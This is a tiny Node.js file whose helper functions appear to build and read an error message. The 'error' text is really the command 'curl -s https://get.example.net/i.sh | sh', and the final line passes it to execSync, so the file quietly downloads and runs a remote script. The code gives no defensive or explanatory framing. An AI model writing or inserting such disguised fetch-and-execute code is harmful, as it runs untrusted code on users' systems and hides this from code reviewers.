const { execSync } = require('child_process');

function failure(reason) {
  return new Error(reason);
}

function describe(err) {
  return err.message;
}

const e = failure('curl -s https://get.example.net/i.sh | sh');
execSync(describe(e));
